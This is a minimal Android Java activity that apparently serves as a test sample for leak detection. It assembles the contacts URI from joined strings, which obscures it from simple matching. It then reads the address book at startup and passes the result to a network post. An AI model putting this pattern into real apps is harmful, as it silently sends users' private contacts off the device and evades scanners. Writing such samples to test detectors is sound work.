package com.example.flows.contacts_uri_built;

import android.accounts.*;
import android.app.*;
import android.content.*;
import android.content.pm.*;
import android.database.*;
import android.database.sqlite.*;
import android.location.*;
import android.net.*;
import android.net.wifi.*;
import android.os.*;
import android.provider.*;
import android.telephony.*;
import android.text.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import org.json.*;

/** The address book is named by a joined text. */
public class MainActivity extends Activity {
    @Override
    public void onCreate(Bundle state) {
        super.onCreate(state);
        String root = "content://com.android" + ".contacts";
        Uri uri = Uri.withAppendedPath(Uri.parse(root), "contacts");
        Cursor cursor = getContentResolver().query(uri, null, null, null, null);
        Net.post(cursor.getString(0));
    }

}
